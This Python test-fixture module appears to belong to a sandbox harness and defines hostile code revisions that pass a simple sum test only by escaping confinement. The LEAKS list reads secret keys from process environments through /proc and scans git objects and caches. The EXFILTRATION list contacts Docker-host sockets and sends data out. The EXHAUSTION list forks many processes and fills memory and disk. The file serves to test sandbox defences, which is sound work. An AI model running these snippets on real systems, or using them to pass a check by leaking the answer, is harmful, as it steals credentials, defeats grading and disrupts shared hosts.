"""Revisions that only a sandbox stops: each gives the right answer if it gets what it is after, else a wrong one."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

from hostile.ledger import real_history
from hostile.shape import Kind, Revision

from pytest_crab.types import Reason

#: A variable of the process that starts the harness, and what is in it.
SECRET = "CRAB_ATTACK_SECRET"
VALUE = "sk-the-key-of-the-host"


def greedy(kind: Kind, name: str, text: str, reason: Reason, **more: object) -> Revision:
    """Runs ``text`` in the call; the sum is right if it came to its end."""
    lines = "".join(f"    {line}\n" for line in text.splitlines())
    files = {"ledger.py": f"def add(a, b):\n{lines}    return a + b\n"}
    return Revision(kind=kind, name=name, files=files, reason=reason, confined=True, **more)  # type: ignore[arg-type]


def hungry(kind: Kind, name: str, text: str, **more: object) -> Revision:
    """Runs ``text``, which sets ``found``; the sum is right if it is true."""
    lines = "".join(f"    {line}\n" for line in text.splitlines())
    files = {"ledger.py": f"def add(a, b):\n    found = False\n{lines}    return a + b if found else a - b\n"}
    return Revision(kind=kind, name=name, files=files, reason=Reason.FAILED, confined=True, **more)  # type: ignore[arg-type]


def later_release(tree: Path) -> None:
    """Install the project at head, as a careless set-up does in the home that it shares."""
    home = {**os.environ, "HOME": str(tree.parent)}
    subprocess.run([sys.executable, "setup.py"], cwd=tree, env=home, check=True, capture_output=True)


LEAKS = [
    hungry(Kind.LEAKS, "a key in the environment", f"import os\nfound = os.environ.get({SECRET!r})"),
    hungry(
        Kind.LEAKS, "a key in the environment of any process",
        "import glob\nfor path in glob.glob('/proc/[0-9]*/environ'):\n    try:\n"
        f"        found = found or {VALUE!r}.encode() in open(path, 'rb').read()\n    except OSError:\n        pass",
    ),
    hungry(
        Kind.LEAKS, "a fix among git's objects",
        "import glob, zlib\nfor path in glob.glob('.git/objects/??/*') + glob.glob('/*/.git/objects/??/*'):\n    try:\n"
        "        found = found or b'a + b' in zlib.decompress(open(path, 'rb').read())\n"
        "    except (OSError, zlib.error):\n        pass",
        around=real_history,
    ),
    hungry(
        Kind.LEAKS, "a later release in a cache",
        "import glob, os\nfor home in (os.path.expanduser('~'), os.environ.get('HOME', ''), '/tmp', '/root'):\n"
        "    for path in glob.glob(home + '/.cache/**/ledger-2*', recursive=True):\n"
        "        found = found or 'a + b' in open(path).read()",
        around=later_release,
    ),
    hungry(
        Kind.LEAKS, "a file of the host by way of /proc",
        "import glob\nfor path in glob.glob('/proc/[0-9]*/root{file}') + ['{file}']:\n    try:\n"
        "        found = found or open(path).read() == 'the answer'\n    except OSError:\n        pass",
    ),
]  # fmt: skip

_HOSTS = "('127.0.0.1', '172.17.0.1', 'host.docker.internal')"
EXFILTRATION = [
    hungry(
        Kind.EXFILTRATION, "a connection to the host",
        f"import socket\nfor host in {_HOSTS}:\n    try:\n"
        "        with socket.create_connection((host, {port}), 1) as line: found = found or line.recv(2) == b'ok'\n"
        "    except OSError:\n        pass",
    ),
    hungry(
        Kind.EXFILTRATION, "a datagram to the host",
        "import socket\nfor host in ('127.0.0.1', '172.17.0.1'):\n    try:\n"
        "        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:\n            line.settimeout(0.5)\n"
        "            line.sendto(b'answer', (host, {port}))\n            found = found or line.recv(2) == b'ok'\n"
        "    except OSError:\n        pass",
    ),
    hungry(
        Kind.EXFILTRATION, "a Unix socket without a file",
        "import socket\ntry:\n    with socket.socket(socket.AF_UNIX) as line:\n"
        "        line.connect('\\0' + '{abstract}')\n        found = line.recv(2) == b'ok'\nexcept OSError:\n    pass",
    ),
    hungry(
        Kind.EXFILTRATION, "a Unix socket of the host",
        "import socket\ntry:\n    with socket.socket(socket.AF_UNIX) as line:\n"
        "        line.connect('{socket}')\n        found = line.recv(2) == b'ok'\nexcept OSError:\n    pass",
    ),
]  # fmt: skip

#: Each uses a little more than what it is told that it may.
EXHAUSTION = [
    greedy(Kind.EXHAUSTION, "memory", "hog = b'1' * (({memory} + 50) << 20)", Reason.MEMORY),
    greedy(
        Kind.EXHAUSTION, "processes",
        "import os, signal, time\nmade = []\nfor _ in range({processes} + 50):\n    child = os.fork()\n"
        "    if not child:\n        time.sleep(20)\n        os._exit(0)\n    made.append(child)\n"
        "for child in made:\n    os.kill(child, signal.SIGKILL)\n    os.waitpid(child, 0)",
        Reason.PROCESSES,
    ),
    greedy(
        Kind.EXHAUSTION, "disk",
        "import contextlib, tempfile\nwith contextlib.ExitStack() as stack:\n"
        "    for _ in range(2 * {disk} // {most} + 1):\n"
        "        file = stack.enter_context(tempfile.TemporaryFile())\n"
        "        for _ in range({most} // 2): file.write(bytes(1 << 20))\n        file.flush()",
        Reason.FAILED,
    ),
    greedy(Kind.EXHAUSTION, "one large file", "import tempfile\nwith tempfile.TemporaryFile() as file:\n"
           "    file.truncate(({most} + 6) << 20)", Reason.FAILED),
    greedy(
        Kind.EXHAUSTION, "inodes",
        "import os, tempfile\nmost = b'1' * (({memory} - 64) << 20)\n"
        "place = '/dev/shm' if os.access('/dev/shm', os.W_OK) else None\n"
        "with tempfile.TemporaryDirectory(dir=place) as folder:\n    for number in range(13000):\n"
        "        os.symlink('x' * 3900, os.path.join(folder, '%0250d' % number))",
        Reason.MEMORY, alone=True,
    ),
    greedy(
        Kind.EXHAUSTION, "output",
        "import os\nfor _ in range({output} // 65536 + 20): os.write(1, b'x' * 65536)", Reason.OUTPUT,
    ),
    greedy(Kind.EXHAUSTION, "time", "import time\ntime.sleep({seconds} + 0.5)", Reason.TIMEOUT, seconds=1),
]  # fmt: skip

CONFINED = [*LEAKS, *EXFILTRATION, *EXHAUSTION]
